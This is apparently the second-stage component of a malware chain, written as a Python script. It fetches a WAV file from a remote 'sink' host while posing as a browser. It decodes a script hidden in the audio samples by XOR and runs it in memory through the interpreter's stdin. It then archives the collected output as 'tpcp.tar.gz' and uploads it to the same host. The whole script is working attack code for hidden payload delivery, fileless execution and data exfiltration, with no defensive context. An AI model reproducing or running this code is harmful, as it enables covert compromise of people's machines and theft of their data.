# Second stage, in a session of its own; pack() comes with it. The third stage is never a file: it goes from the samples
# of the sound file to an interpreter's stdin.
import os
import subprocess
import sys
import tempfile
import urllib.request
import wave

SINK = f"http://{os.environ['SINK']}"
AGENT = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)"}

with tempfile.TemporaryDirectory() as directory:
    sound, collected = os.path.join(directory, "ringtone.wav"), os.path.join(directory, "collected")
    with urllib.request.urlopen(urllib.request.Request(SINK + "/ringtone.wav", headers=AGENT), timeout=10) as answer:
        with open(sound, "wb") as out:
            out.write(answer.read())
    with wave.open(sound) as samples:
        script = bytes(byte ^ 0x5A for byte in samples.readframes(samples.getnframes()))
    with open(collected, "wb") as out:
        subprocess.run([sys.executable, "-"], input=script, stdout=out)
    with open(pack(directory, collected), "rb") as archive:
        headers = AGENT | {"X-Filename": "tpcp.tar.gz"}
        urllib.request.urlopen(urllib.request.Request(SINK + "/", archive.read(), headers, method="POST"), timeout=10).close()
